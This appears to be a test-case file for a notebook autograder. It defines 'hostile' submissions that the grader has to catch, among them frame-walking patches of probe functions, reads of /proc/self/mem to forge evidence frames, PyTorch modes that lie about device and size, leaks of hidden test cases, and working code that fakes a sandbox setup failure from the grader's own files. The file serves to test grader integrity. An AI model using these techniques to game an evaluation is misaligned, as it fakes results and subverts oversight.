''' + CORRECT_BLOCK_BODY + '''
    def forward(self, x):
        entry = (self._rt_config, list(x.shape))
        if entry not in _RT_SEEN:
            _RT_SEEN.append(entry)
        return self._rt_compute(x)
'''
PRINT_RECORDED = '''# What the blocks were asked to do so far
for (cin, cout, stride), shape in _RT_SEEN:
    print(f"ResidualBlock({cin}, {cout}, {stride}) on {shape}  cfg {cin}_{cout}_{stride} in {'x'.join(map(str, shape))}")
'''

# --- 6. a fake "the sandbox could not be built" ------------------------------------------------------

# The zygote's own words and exit status, read from its file in the sandbox (/grader), with the
# values of today's file where it cannot be read.
SPOOF_SETUP_FAILURE = r'''# Say that the sandbox could not be built: the warm door gives this notebook a second, cold run
import glob
import os
import re

words, status = "zygote: the sandbox could not be built:", 70
for path in glob.glob("/grader/**/*.py", recursive=True):
    try:
        text = open(path).read()
    except OSError:
        continue
    found = re.search(r"SETUP_FAILED, SETUP_ERROR = (\d+), \"([^\"]+)\"", text)
    if found:
        status, words = int(found.group(1)), found.group(2)
try:
    os.waitpid(-1, 0)  # the other run is this one's child: let it finish its checks first
except ChildProcessError:
    pass
os.write(2, f"{words} OSError: [Errno 28] No space left on device\n".encode())
os._exit(status)
'''

# 6 then 2: the warm door refuses /proc/self/mem (its process is not dumpable), the cold door
# does not; so the notebook first asks for a cold run, then forges from it.
SPOOF_THEN_PROC_MEM = PROC_SELF_MEM.replace('''
try:
    _rt_opened = _rt_open_mem()''', '''
_rt_opened = _rt_open_mem()
if not _rt_opened and not _rt_counterfactual():
''' + "\n".join("    " + line for line in SPOOF_SETUP_FAILURE.strip("\n").split("\n")) + '''
try:''')


CASES = [
    # 1. frames through <string> code
    Case("hostile", "hostile_exec_compiled_frame_walk_patches_probes_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("setup", EXEC_PATCHES_PROBES)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release, and a cell that exec()s code compiled as <string>: it walks every frame "
             "above it, and replaces every probe_* function it reaches by one that answers with the right "
             "values"),
    Case("hostile", "hostile_functiontype_frame_walk_steals_send_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("test_shortcut_projection", FUNCTIONTYPE_STEALS_SEND)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release; after the block checks, code run through types.FunctionType over <string> "
             "code finds the runner's send() and plan, sends right answers for every check (overwriting the "
             "block results, ahead of the later ones) and exits without 'done'"),

    # 2. no frames: raw memory
    Case("hostile", "hostile_numpy_raw_memory_finds_nonce_and_forges_frames_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("setup", f"# {MARK}\n" + NUMPY_RAW_MEMORY)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release, and a cell that reads the process's memory through numpy "
             "__array_interface__ (addresses from /proc/self/maps), decodes the runner's plan and nonce from "
             "its live objects, writes forged frames to its evidence pipe and exits"),
    Case("hostile", "hostile_proc_self_mem_unguarded_paths_forge_frames_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("setup", f"# {MARK}\n" + PROC_SELF_MEM)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release, and a cell that opens /proc/self/mem as bytes, as /dev/fd/../mem and "
             "relative to /proc, decodes the plan and nonce from it, writes forged frames to its evidence "
             "pipe and exits"),

    # 3. device (and size) lies
    Case("hostile", "hostile_torch_function_mode_answers_device_score_nothing_moved",
         (*NOTHING_MOVED, InsertAfter("setup", DEVICE_MODE)),
         expect={"device_placement": 1.25}, review=True,
         why="nothing moved to device, and a TorchFunctionMode entered and never exited that answers "
             "Tensor.device (and is_cuda, is_meta, get_device) with where `device` would put a tensor"),
    Case("hostile", "hostile_torch_function_mode_answers_size_score_stride_bug_only",
         (*STRIDE_NOWHERE, *CLAIMED_SHAPE, InsertAfter("setup", SIZE_MODE)),
         expect=STRIDE_NOWHERE_EARNS, review=True,
         why="a block that applies its stride nowhere (a real bug: stride-2 outputs keep the input's size), "
             "whose forward tags its output with the size it should have, and a TorchFunctionMode that "
             "answers TensorBase.size, Tensor.shape and dim with the tag"),

    # 4. layers that exist but are never called
    Case("hostile", "hostile_scaffold_layers_never_called_score_zero_for_blocks",
         (Replace("residual_block", UNUSED_LAYERS_BLOCK),),
         expect=NO_BLOCKS,
         why="a block with 1-channel conv1/bn1/conv2/bn2 that forward never calls, returning a strided "
             "channel average of x repeated to out_channels (a wrong block, not an attack on the grader: it "
             "earns nothing, as the layers' behaviour is checked, and is not flagged)"),

    # 5. hidden configurations in the feedback (tests/test_integrity_leaks.py looks for them)
    Case("hostile", "hostile_exception_type_names_spell_hidden_cases_score_visible_parts",
         (Replace("residual_block", EXCEPTION_NAME_BLOCK),),
         expect={"residual_block_shapes": 1.0, "shortcut_projection": 2.0}, review=True,
         why="a correct block that raises, for every configuration the notebook does not use, an exception "
             "whose class name spells the configuration and input shape: the seed cases and outputs earn their 1.0; "
             "the hidden cases and the main path's own configurations raise (the message names only Python's own "
             "exception types for a hidden case)"),
    Case("hostile", "hostile_nameerror_message_from_exec_spells_hidden_cases_score_visible_parts",
         (Replace("residual_block", NAMEERROR_BLOCK),),
         expect={"residual_block_shapes": 1.0, "shortcut_projection": 2.0}, review=True,
         why="the same block compiled as <string>, raising NameError('... ResidualBlock(16, 32, 1) on input "
             "[2, 16, 20, 20] is not defined'): a NameError with no notebook line is reported with its "
             "message"),
    Case("hostile", "hostile_block_records_hidden_cases_and_prints_them_score_full",
         (Replace("residual_block", RECORDING_BLOCK),
          InsertAfter("test_residual_block_shapes", PRINT_RECORDED), InsertAfter(None, PRINT_RECORDED)),
         why="a correct block that records every configuration and input shape it is given, and cells after "
             "the checks that print the record: the hidden cases run after the last cell, so there is nothing "
             "hidden to print (nothing an attack needs either, so no flag)"),

    # 6. a fake sandbox failure
    Case("hostile", "hostile_spoofed_sandbox_setup_failure_score_full",
         (InsertAfter(None, SPOOF_SETUP_FAILURE),),
         expect={"residual_block_shapes": 2.0},
         review=True,
         why="a correct notebook ending in the zygote's 'the sandbox could not be built' on stderr and its "
             "exit status 70: was graded again in a fresh cold sandbox, unflagged; now evidence had already "
             "come, so it is graded on what it did (its process ended before the hidden cases, which run "
             "after the last cell) and flagged"),
    Case("hostile", "hostile_spoofed_setup_failure_then_proc_self_mem_forgery_score_blank_release",
         (*BLANK_RELEASE, InsertAfter("setup", f"# {MARK}\n" + SPOOF_THEN_PROC_MEM)),
         expect=BLANK_RELEASE_EARNS, review=True,
         why="the blank release; where /proc/self/mem cannot be opened (the warm sandbox), the notebook "
             "fakes a sandbox failure to be run again cold, where it can, and forges every check from there"),
]
